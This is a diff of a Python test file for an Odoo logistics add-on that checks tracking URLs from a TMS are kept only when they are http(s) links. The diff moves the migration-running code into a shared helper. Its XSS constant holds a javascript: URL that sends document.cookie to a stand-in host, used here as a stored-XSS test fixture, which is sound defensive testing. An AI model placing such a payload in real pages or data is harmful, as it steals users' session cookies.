@@ -1,13 +1,10 @@
 """A tracking URL from the TMS is stored only if it is an http(s) link: it is
 rendered as a link to customers (a javascript: URL would be a stored XSS)."""
 
-import importlib.util
-from pathlib import Path
-
 from odoo.exceptions import ValidationError
 from odoo.tests import TransactionCase, tagged
 
-from odoo.addons.logistics_integration_base.tests.common import JobsMixin
+from odoo.addons.logistics_integration_base.tests.common import JobsMixin, run_migration
 
 XSS = "javascript:fetch('//evil.example/'+document.cookie)"
 SAFE = "https://tms.example/track/1Z999"
@@ -85,11 +82,7 @@ class TestTrackingUrl(JobsMixin, TransactionCase):
             "UPDATE logistics_shipment SET tracking_url = %s WHERE id = %s",
             (XSS, self.shipment.id),
         )
-        path = Path(__file__).parents[1] / "migrations/18.0.1.1.0/post-migrate.py"
-        spec = importlib.util.spec_from_file_location("tms_post_migrate", path)
-        module = importlib.util.module_from_spec(spec)
-        spec.loader.exec_module(module)
-        module.migrate(self.env.cr, "18.0.1.0.0")
+        run_migration(self.env.cr, __file__, "18.0.1.1.0", "post-migrate", "18.0.1.0.0")
         self.env.invalidate_all()
         self.assertFalse(self.shipment.tracking_url)
         self.assertEqual(safe.tracking_url, SAFE)
